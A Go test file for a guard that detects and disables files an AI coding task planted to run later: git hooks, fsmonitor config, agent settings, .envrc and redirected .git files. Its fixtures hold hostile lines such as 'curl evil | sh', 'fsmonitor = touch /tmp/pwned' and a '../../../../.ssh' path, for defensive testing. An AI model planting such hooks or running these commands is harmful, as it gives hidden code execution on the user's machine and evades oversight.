package gitguard

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func writeFile(t *testing.T, path, data string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(data), mode); err != nil {
		t.Fatal(err)
	}
}

// TestPlants: what a task made that runs later unasked is disabled and
// reported with what it would have run; what it made that runs nothing
// (a plain git init, a source file) and what was there before are left.
func TestPlants(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "old/.vscode/settings.json"), "{}", 0o644) // the person's own, from before
	time.Sleep(100 * time.Millisecond)                                          // before the scan's margin (scanFrom)
	g := Snapshot(root)
	// The task's doing:
	writeFile(t, filepath.Join(root, "vendor/lib/.git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n", 0o644)
	writeFile(t, filepath.Join(root, "vendor/lib/.git/hooks/post-checkout"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
	writeFile(t, filepath.Join(root, "vendor/lib/.git/hooks/pre-push.sample"), "#!/bin/sh\n", 0o755)
	writeFile(t, filepath.Join(root, ".claude/settings.json"), `{"hooks":{"SessionStart":[]}}`, 0o644)
	writeFile(t, filepath.Join(root, "sub/.envrc"), "curl evil | sh\n", 0o644)
	writeFile(t, filepath.Join(root, "wt/.git"), "gitdir: /home/other/.git\n", 0o644)
	writeFile(t, filepath.Join(root, "main.go"), "package main\n", 0o644)
	if _, err := exec.LookPath("git"); err == nil {
		if out, err := exec.Command("git", "init", "-q", filepath.Join(root, "fresh")).CombinedOutput(); err != nil {
			t.Fatal(err, string(out))
		}
	}
	got, err := g.Restore()
	if err != nil {
		t.Fatal(err)
	}
	report := strings.Join(got, "\n")
	for _, want := range []string{
		"vendor/lib/.git/config: keys that are not inert: core.fsmonitor = touch /tmp/pwned",
		"vendor/lib/.git/hooks/post-checkout: a git hook: #!/bin/sh curl evil | sh",
		".claude: project settings", "sub/.envrc: project settings", "wt/.git: a .git file pointing at",
	} {
		if !strings.Contains(report, want) {
			t.Errorf("the report lacks %q:\n%s", want, report)
		}
	}
	if strings.Contains(report, "fresh/") {
		t.Errorf("a plain git init was taken for a plant:\n%s", report)
	}
	// The nested config is disabled, and one of its inert keys written in
	// its place, so git still works there (stricter than the first guard,
	// which left the repository without a config).
	if b, err := os.ReadFile(filepath.Join(root, "vendor/lib/.git/config")); err != nil || strings.Contains(string(b), "fsmonitor") {
		t.Errorf("the nested config now: %q %v", b, err)
	}
	for _, gone := range []string{"vendor/lib/.git/config", "vendor/lib/.git/hooks/post-checkout", ".claude", "sub/.envrc", "wt/.git"} {
		if gone == "vendor/lib/.git/config" {
			if _, err := os.Lstat(filepath.Join(root, gone+Disabled)); err != nil {
				t.Errorf("%s was not kept as %s: %v", gone, gone+Disabled, err)
			}
			continue
		}
		if _, err := os.Lstat(filepath.Join(root, gone)); err == nil {
			t.Errorf("%s is still in place", gone)
		}
		if _, err := os.Lstat(filepath.Join(root, gone+Disabled)); err != nil {
			t.Errorf("%s was not kept as %s: %v", gone, gone+Disabled, err)
		}
	}
	for _, kept := range []string{"old/.vscode/settings.json", "main.go", "vendor/lib/.git/hooks/pre-push.sample", "fresh/.git/config"} {
		if _, err := os.Lstat(filepath.Join(root, "fresh")); kept == "fresh/.git/config" && err != nil {
			continue
		}
		if _, err := os.Lstat(filepath.Join(root, kept)); err != nil {
			t.Errorf("%s was touched: %v", kept, err)
		}
	}
	if again, _ := g.Restore(); len(again) != 0 {
		t.Errorf("a second scan found %q", again)
	}
}

// TestPlantsHeld: under a view, the protected paths that existed when the
// work began were read-only to it, so a change the person made a moment
// before (within the scan's margin) is not taken for the work's.
func TestPlantsHeld(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, ".claude/settings.json"), "{}", 0o644)
	g := SnapshotView(root, []string{".claude", ".git/config"})
	writeFile(t, filepath.Join(root, "sub/.claude/settings.json"), "{}", 0o644) // the work's: not protected
	got, _ := g.Restore()
	if _, err := os.Stat(filepath.Join(root, ".claude/settings.json")); err != nil {
		t.Errorf("the person's own settings were disabled: %q", got)
	}
	if len(got) != 1 || !strings.HasPrefix(got[0], "sub/.claude: ") {
		t.Errorf("got %q, want sub/.claude alone", got)
	}
}

// TestOpencodeID: opencode keeps its project id, the repository's root
// commit, in .git/opencode, and writes it on its first run in a
// repository: that file, an object name alone, is not a plant (every
// confined opencode run in a repository had it disabled); anything else
// there (a path opencode would join, more lines) still is.
func TestOpencodeID(t *testing.T) {
	needGit(t)
	for _, c := range []struct {
		name, data string
		kept       bool
	}{
		{"sha1", "0123456789abcdef0123456789abcdef01234567", true},
		{"sha1-newline", "0123456789abcdef0123456789abcdef01234567\n", true},
		{"sha256", strings.Repeat("ab", 32), true},
		{"path", "../../../../.ssh", false},
		{"upper", "0123456789ABCDEF0123456789ABCDEF01234567", false},
		{"two-lines", "0123456789abcdef0123456789abcdef01234567\nx", false},
		{"short", "0123456", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			root := initRepo(t, t.TempDir(), "repo")
			time.Sleep(100 * time.Millisecond) // the person's own, before the scan's margin
			g := Snapshot(root)
			writeFile(t, filepath.Join(root, ".git/opencode"), c.data, 0o644)
			got, err := g.Restore()
			if err != nil {
				t.Fatal(err)
			}
			_, statErr := os.Lstat(filepath.Join(root, ".git/opencode"))
			if kept := statErr == nil && len(got) == 0; kept != c.kept {
				t.Errorf("%q kept %v, want %v; the guard said %q", c.data, kept, c.kept, got)
			}
		})
	}
}
